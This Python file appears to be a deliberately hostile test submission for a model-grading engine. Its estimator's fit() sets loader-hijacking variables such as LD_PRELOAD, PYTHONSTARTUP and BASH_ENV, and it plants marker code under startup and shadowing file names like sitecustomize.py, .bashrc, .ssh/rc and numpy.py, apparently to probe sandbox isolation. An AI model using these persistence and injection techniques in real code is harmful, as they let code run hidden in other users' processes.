"""Sets variables, and leaves files, by which programs of the engine would load its code."""

import os
import ｓubprocess
import sys
from pathlib import Path

from nearest import NearestMean


FILES = (
    'sitecustomize.py',
    'usercustomize.py',
    '.pythonrc.py',
    '.bashrc',
    '.profile',
    'numpy.py',
    'problem.py',
    'rampwf/__init__.py',
    '.config/pip/pip.conf',
    '.gitconfig',
    '.ssh/rc',
    '.matplotlib/matplotlibrc',
    'estimator.py',
    'json.py',
    '.inputrc',
    '.pdbrc',
    'conftest.py',
    'ramp_engine/__init__.py',
)
CODE = 'import os\nos.write(1, b"STOLEN could run where it was not started")\n'


def attack():
    os.environ.update(
        LD_PRELOAD='/tmp/ramp.so',
        LD_LIBRARY_PATH='/tmp',
        LD_AUDIT='/tmp/ramp.so',
        PYTHONPATH=os.getcwd(),
        PYTHONSTARTUP=os.path.abspath('.pythonrc.py'),
        PYTHONHOME='/tmp',
        BASH_ENV=os.path.abspath('.bashrc'),
        PYTHONINSPECT='1',
        PYTHONBREAKPOINT='os.abort',
        GCONV_PATH='/tmp',
        TMPDIR='/nonexistent',
        HOME='/nonexistent',
    )
    for folder in {os.getcwd(), os.path.dirname(os.getcwd()), os.path.dirname(__file__)}:
        if folder == '/':
            continue
        for name in FILES:
            try:
                path = Path(folder, name)
                if not path.exists():
                    path.parent.mkdir(parents=True, exist_ok=True)
                    path.write_text(CODE)
            except OSError:
                pass
    sys.path.insert(0, os.getcwd())


class Model(NearestMean):
    def fit(self, X, y):
        attack()
        return super().fit(X, y)


def get_estimator():
    return Model()
